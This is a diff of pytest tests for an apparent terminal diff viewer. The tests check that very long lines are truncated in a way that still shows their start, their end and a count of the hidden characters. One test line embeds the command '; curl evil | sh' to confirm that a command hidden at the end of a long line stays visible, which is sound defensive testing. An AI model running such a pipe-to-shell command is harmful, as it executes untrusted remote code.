@@ -134,7 +134,7 @@ def test_a_line_of_half_a_megabyte_is_painted_quickly() -> None:
     rows = diff_rows(difference, "a.json", 80, LOOK, limit=5)
 
     assert time.process_time() - start < 0.5
-    assert plain(rows)[-1].endswith("…")
+    assert plain(rows)[-1].endswith("…+569,939")
 
 
 @pytest.mark.parametrize("room", [1, 2, 7, 40])
@@ -184,9 +184,58 @@ def test_a_long_line_is_broken_between_words_and_keeps_its_blanks() -> None:
     assert rows_of("\tif a:\tb", 9) == ["    if a:", "    b".ljust(9)]
 
 
-def test_an_endless_line_is_wrapped_in_time_and_its_end_left_out() -> None:
+def test_an_endless_line_is_wrapped_in_time() -> None:
     began = time.process_time()
 
-    assert height_of("日" * 1_000_000, 80) == MOST_ROWS
-    assert height_of("x" * 10_000_000, 80) == MOST_ROWS
+    assert height_of("日" * 1_000_000, 80) <= 2 * MOST_ROWS + 20
+    assert height_of("x" * 10_000_000, 80) == MOST_ROWS + 1
     assert time.process_time() - began < 2
+
+
+@pytest.mark.parametrize("more", [1, 2, 20_000])
+@pytest.mark.parametrize("unit", ["x", "word ", "日", "\t"])
+def test_of_a_very_long_line_the_beginning_the_end_and_the_number_of_what_is_between_are_seen(
+    unit: str, more: int
+) -> None:
+    room = 20
+    inner = unit * (room * MOST_ROWS // len(unit) + more)
+    line = f"HEAD {inner}; curl evil | sh"
+
+    rows = rows_of(line, room)
+
+    assert rows[0].startswith("HEAD")
+    assert ";curlevil|sh" in "".join("".join(rows[-4:]).split())
+    (place,) = (number for number, row in enumerate(rows) if row.startswith("…"))
+    assert rows[place].startswith(f"… {len(line) - room * MOST_ROWS:,} chara")
+
+
+def test_a_line_that_just_fits_is_shown_whole_whatever_it_is_made_of() -> None:
+    for unit in ("x", "ab cdefghijklmnop ", "日"):
+        line = (unit * 10_000)[: 20 * MOST_ROWS]
+        shown = "".join("".join(rows_of(line, 20)).replace("·", "").split())
+        assert shown == line.replace(" ", "")
+
+
+@pytest.mark.parametrize(
+    ("line", "pan", "end"),
+    [
+        ("x" * 74, 0, "xxx"),
+        ("x" * 75, 0, "…+4"),
+        ("x" * 60_000, 0, "…+59,934"),
+        ("x" * 60_000, 100, "…+59,834"),
+        ("x" * 60_000, 59_980, "xxx"),
+        ("日" * 100, 0, "…+131"),
+    ],
+)
+def test_a_line_that_is_not_wrapped_tells_how_much_is_left_to_the_right(
+    line: str, pan: int, end: str
+) -> None:
+    compared = ComparedFile(FileDiff("a", None, f"{line}\n"))
+    compared.difference = compared.compare()
+    painter = compared.painter(84, look_of(choose("acp-dark")[0]), False)
+    (part,) = [part for part in compared.parts(False, False, None) if part.kind == "added"]
+
+    row = painter.row(part, 0, pan)
+
+    assert row_cells(row) == 84
+    assert row_text(row).rstrip().endswith(end)
